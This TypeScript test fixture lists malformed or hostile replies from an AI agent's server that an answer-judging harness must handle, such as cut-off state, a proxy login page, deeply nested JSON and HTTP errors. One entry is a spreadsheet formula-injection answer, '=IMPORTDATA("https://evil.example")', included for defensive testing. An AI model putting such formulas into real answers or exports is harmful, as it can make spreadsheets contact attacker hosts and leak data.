/** What the agent's server, or anything in front of it, may send back for a question, and what must become of its row. */
import { answered } from '../support/agent-server/states';
import type { Sent } from './judge-replies';

export const ODD_QUERY = 'Where is it odd?';

/** What comes in place of the chat's stream or of the thread's state, and the row's error; none if it is answered nevertheless. */
type AgentReply = readonly [inPlaceOf: 'chat' | 'state', what: string, sent: Sent, error?: RegExp];

const STATE = answered(ODD_QUERY, 'The answer is 9,587.2 hectares.');
const stateOf = (state: unknown): Sent => ({
  status: 200,
  body: JSON.stringify({ state: typeof state === 'string' ? state : JSON.stringify(state) }),
});
/** A login page, possibly a proxy's. */
export const PAGE: Sent = { status: 200, body: '<!DOCTYPE html><html><body>Log in</body></html>' };
const deep = (depth: number): string => `${'{"messages":'.repeat(depth)}1${'}'.repeat(depth)}`;

const NO_MESSAGES = /^the agent’s state has no messages of its own, twice$/;
const NOT_JSON = /^the agent’s state is not JSON; it begins with “/;

/** One of each kind: what a state or a stream may look like in detail stands in test/agent/live. */
export const AGENT_REPLIES: readonly AgentReply[] = [
  ['state', 'a state that is JSON, not a text', { status: 200, body: JSON.stringify({ state: STATE }) }],
  [
    'state',
    'a state of another thread',
    { status: 200, body: JSON.stringify({ thread_id: 'another', state: STATE }) },
    /^the agent’s state is of another thread: another$/,
  ],
  ['state', 'a state without messages', stateOf({ ...STATE, messages: [] }), NO_MESSAGES],
  [
    'state',
    'a state whose messages are numbers',
    stateOf({ ...STATE, messages: [1, 2] }),
    /^the agent was interrupted each time it was asked$/,
  ],
  ['state', 'a state that is cut off', stateOf(JSON.stringify(STATE).slice(0, 200)), NOT_JSON],
  ['state', 'a state of 20,000 levels', stateOf(deep(20_000)), /nested more than 500 levels deep$/],
  [
    'state',
    'a page for a state',
    PAGE,
    /not the agent answers at this address but a page \(a proxy or a login\?\)/,
  ],
  [
    'state',
    'HTTP 404 for a state',
    { status: 404, body: '{"detail":"Thread not found"}' },
    /^the agent does not know the thread [-\da-f]{36} that it was asked in$/,
  ],
  [
    'state',
    'a selection that is not a list',
    stateOf({ ...STATE, aoi_selection: 'BRA' }),
    /^the agent state cannot be read: (aoi_selection|dataset) must be an object$/,
  ],
  ['state', 'a formula for an answer', stateOf(answered(ODD_QUERY, '=IMPORTDATA("https://evil.example")'))],
  ['state', 'an answer of 200,000 characters', stateOf(answered(ODD_QUERY, 'a '.repeat(100_000)))],
  ['state', 'an answer that is half a character', stateOf(answered(ODD_QUERY, 'a\ud83d'))],
  ['chat', 'nothing for the chat', { status: 200, body: '' }],
  ['chat', 'a line of 1 MB', { status: 200, body: `{"node":"x","update":"${'a'.repeat(1_000_000)}"}\n` }],
  [
    'chat',
    'HTTP 422 for the chat',
    { status: 422, body: '{"detail":[{"msg":"bad query"}]}' },
    /^the agent refuses the question \(HTTP 422\): “bad query”$/,
  ],
  ['chat', 'nobody for the chat', { failure: 'Address unavailable: x' }],
];
